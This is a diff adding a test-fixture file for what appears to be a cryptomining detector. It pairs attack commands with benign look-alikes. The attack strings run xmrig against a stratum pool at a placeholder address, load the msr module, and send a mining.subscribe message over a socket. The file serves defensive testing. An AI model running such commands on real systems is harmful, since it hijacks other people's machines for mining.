@@ -1,0 +1,28 @@
+# SPDX-License-Identifier: Apache-2.0
+"""70-mining.yaml: somebody else's coins."""
+
+from __future__ import annotations
+
+from proof import Proof
+
+PROOFS = [
+    Proof("Miner started", before="ln -s /usr/bin/true /usr/local/bin/xmrig",
+          attack="xmrig -o 203.0.113.9:3333; true --url stratum+tcp://203.0.113.9:3333 --donate-level 1",
+          look_alike="grep -r stratum+tcp:// /etc/nginx || true"),
+
+    Proof("Processor tuned for mining", attack="modprobe msr || true", look_alike="modprobe --version >/dev/null; nproc"),
+
+    Proof("Mining protocol sent", attack="""python3 -c '
+import json, socket
+pool = socket.create_connection(("203.0.113.9", 3333))
+pool.send(json.dumps({"id": 1, "method": "mining.subscribe", "params": []}).encode() + b"\\n")'
+""", look_alike="""python3 -c '
+import json, socket
+peer = socket.create_connection(("203.0.113.9", 443))
+peer.send(json.dumps({"id": 1, "method": "subscribe", "params": []}).encode() + b"\\n")'
+"""),
+
+    Proof("Connection to a port of mining pools",
+          attack="python3 -c 'import socket; socket.create_connection((\"203.0.113.9\", 3333))'",
+          look_alike="python3 -c 'import socket; socket.create_connection((\"10.1.1.1\", 3333))'"),
+]
